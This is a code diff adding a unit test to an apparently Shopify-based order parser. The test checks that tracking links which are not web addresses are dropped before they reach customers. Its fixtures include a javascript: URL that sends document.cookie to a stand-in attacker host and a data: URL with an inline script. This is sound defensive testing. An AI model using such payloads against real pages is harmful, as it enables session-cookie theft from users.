@@ -77,6 +77,22 @@ def test_shopify_multi_fulfilment_order_lists_every_tracking_number_with_url_and
     assert order.fulfillment_status == "fulfilled"
 
 
+def test_a_tracking_link_that_is_not_a_web_address_is_never_kept() -> None:
+    # a fulfilment app writes the tracking URL; the inbox makes it a link and replies send it to the customer
+    body, _ = commerce_sample("shopify", "orders_fulfilled_multi_fulfillment")
+    payload = shopify.parse_body(body)
+    first = payload["fulfillments"][0]
+    first["tracking_urls"] = ["javascript:fetch('//evil.example/'+document.cookie)", *first["tracking_urls"][1:]]
+    first["tracking_url"] = first["tracking_urls"][0]
+    for fulfillment in payload["fulfillments"][1:]:
+        fulfillment["tracking_urls"] = [" data:text/html,<script>alert(1)</script>"] * len(fulfillment["tracking_urls"])
+        fulfillment["tracking_url"] = fulfillment["tracking_urls"][0] if fulfillment["tracking_urls"] else None
+    order = shopify.order_from_rest(payload)
+    assert order.tracking and all(t.number for t in order.tracking)
+    assert not any(t.url and not t.url.startswith(("http://", "https://")) for t in order.tracking)
+    assert shopify.order_from_rest(shopify.parse_body(body)).tracking[0].url.startswith("https://")
+
+
 def test_shopify_non_ascii_values_round_trip_exactly() -> None:
     body, meta = commerce_sample("shopify", "orders_create_nonascii_escaped")
     order = shopify.order_from_rest(shopify.parse_body(body))
